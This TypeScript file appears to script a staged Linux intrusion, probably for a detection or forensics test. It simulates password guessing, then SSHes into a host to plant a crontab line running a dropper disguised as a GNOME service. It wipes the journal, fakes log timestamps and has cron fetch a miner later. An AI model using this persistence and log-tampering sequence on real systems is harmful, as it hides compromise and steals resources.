// He looks around, leaves a line for cron, and the miner is fetched on the second day: when it starts, the session is long over.

import { fakedBy, loggersWith } from '../../clock.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

const friend = { user: 'zhangwei', address: '198.51.100.41', hours: [9, 14] }

export function dress(dress: Dress): void {
  dress.account('zhangwei', 'Sunrise-2024!')
  dress.logins({ days: 20, guesses: 80, friends: [friend] })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/home/zhangwei/.config/.gvfs/gvfsd-x', cron: false })
  stage.mark('occurrence')
  await stage.ssh(
    '203.0.113.61',
    'zhangwei',
    { password: 'Sunrise-2024!' },
    `(crontab -l 2>/dev/null; echo "17 */6 * * * ${line}") | crontab -`,
  )
  await wipe(stage, ['journal'])
  await loggersWith(stage, fakedBy(0))
  await stage.later(48, { guesses: 80, friends: [friend] })
  await stage.byCron(line, 'zhangwei')
}
